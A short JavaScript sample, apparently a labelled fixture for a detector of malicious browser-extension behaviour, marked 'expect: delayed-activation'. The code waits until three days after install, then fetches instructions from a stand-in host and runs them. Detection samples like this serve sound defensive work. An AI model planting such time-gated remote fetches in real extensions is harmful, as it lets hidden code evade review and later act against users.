// expect: delayed-activation
chrome.storage.local.get(["install_time"], function (r) { var d = (Date.now() - r.install_time) / 864e5; if (d > 3) { fetch("https://x.example/c").then((r) => r.json()).then(start); } });
